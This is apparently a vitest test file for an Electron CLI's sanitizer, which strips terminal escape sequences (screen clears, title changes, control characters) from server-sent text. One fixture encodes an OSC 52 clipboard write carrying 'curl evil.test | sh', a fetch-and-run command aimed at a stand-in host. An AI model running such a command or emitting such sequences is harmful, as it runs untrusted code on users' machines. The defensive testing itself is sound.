/** Text a server sent must not drive the user's terminal: clear it, set its clipboard, retitle it. */
import { describe, expect, it } from 'vitest';
import { terminalText } from '../../electron/cli/terminal-text';

const ESC = '\x1b';
const CLEAR = `${ESC}[2J`;
const OSC52 = `${ESC}]52;c;${Buffer.from('curl evil.test | sh').toString('base64')}\x07`;

describe('terminalText', () => {
  it('drops a screen clear and an OSC 52 clipboard write, keeping the words around them', () => {
    expect(terminalText(`before${CLEAR}after`)).toBe('beforeafter');
    expect(terminalText(`copy${OSC52}done`)).toBe('copydone');
    expect(terminalText(`st-terminated ${ESC}]0;title${ESC}\\end`)).toBe('st-terminated end');
  });

  it('drops C0 (but newline and tab), DEL and C1, including the 8-bit CSI', () => {
    expect(terminalText('a\x00b\x07c\x08d\re\x7ff')).toBe('abcdef');
    expect(terminalText('line\n\tindented')).toBe('line\n\tindented');
    expect(terminalText('x\u009b2Jy\u0085z')).toBe('x2Jyz');
  });

  it('an unterminated sequence takes nothing after it but itself', () => {
    expect(terminalText(`${ESC}]52;c;AAAA`)).toBe('');
    expect(terminalText(`tail${ESC}`)).toBe('tail');
  });

  it('leaves ordinary text, accents and CJK alone', () => {
    expect(terminalText('naïve café — 日本 [2J]')).toBe('naïve café — 日本 [2J]');
  });
});
